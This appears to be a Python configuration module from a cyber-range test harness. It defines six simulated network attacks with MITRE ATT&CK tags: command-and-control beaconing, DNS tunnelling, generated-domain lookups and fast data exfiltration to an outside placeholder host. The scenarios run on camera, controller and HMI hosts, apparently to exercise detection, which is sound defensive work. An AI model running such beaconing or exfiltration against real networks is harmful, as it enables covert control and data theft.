"""Attacks that speak with the Internet: beacons, tunnels, generated names, and data carried out.

Those by DNS run on hosts that otherwise ask for no names, so that every question there is the attack's.
"""

from wardline_range.real.plan import Program, RealAttack, Touch

_CONTROL, _STORE, _DNS = 4444, 8843, 53


def _beacon(*arguments: str) -> Program:
    return Program(module="attack_beacon", arguments=("--to", "{outside}", "--port", str(_CONTROL), *arguments))


def _asks(module: str, server: str) -> Program:
    return Program(module=module, arguments=("--server", server))


BEACON_FIXED = RealAttack(
    name="beacon-fixed",
    title="Call home every three seconds",
    on="camera-1",
    techniques=("T1571", "T1071"),
    programs=(_beacon("--every", "3"),),
    touches=(Touch("internet", "tcp", _CONTROL),),
    lasts_s=40,
    needs_hosts=("internet",),
)

BEACON_JITTER = RealAttack(
    name="beacon-jitter",
    title="Call home about every three seconds, give or take 40 %",
    on="camera-1",
    techniques=("T1571", "T1071"),
    programs=(_beacon("--every", "3", "--jitter", "0.4"),),
    touches=(Touch("internet", "tcp", _CONTROL),),
    lasts_s=40,
    needs_hosts=("internet",),
)

BEACON_DNS = RealAttack(
    name="beacon-dns",
    title="Call home every three seconds, by DNS",
    on="light-controller",
    techniques=("T1071.004",),
    programs=(_asks("attack_dns_beacon", "{gateway}"),),
    touches=(Touch("gateway", "udp", _DNS),),
    lasts_s=40,
)

DNS_TUNNEL = RealAttack(
    name="dns-tunnel",
    title="Carry bytes out in the labels of DNS questions to a server outside",
    on="light-controller",
    techniques=("T1071.004", "T1048.003", "T1572"),
    programs=(_asks("attack_dns_tunnel", "{outside}"),),
    touches=(Touch("internet", "udp", _DNS),),
    lasts_s=35,
    needs_hosts=("internet",),
)

DGA = RealAttack(
    name="dga",
    title="Ask for generated names, none of which exists",
    on="hmi",
    techniques=("T1568.002",),
    programs=(_asks("attack_dga", "{gateway}"),),
    touches=(Touch("gateway", "udp", _DNS),),
    lasts_s=30,
)

EXFILTRATION_FAST = RealAttack(
    name="exfiltration-fast",
    title="Send eight megabytes out within twenty seconds",
    on="camera-1",
    techniques=("T1048", "T1041"),
    programs=(Program(module="attack_exfiltration", arguments=("--to", "{outside}", "--port", str(_STORE))),),
    touches=(Touch("internet", "tcp", _STORE),),
    lasts_s=25,
    needs_hosts=("internet",),
)

ATTACKS = (BEACON_FIXED, BEACON_JITTER, BEACON_DNS, DNS_TUNNEL, DGA, EXFILTRATION_FAST)
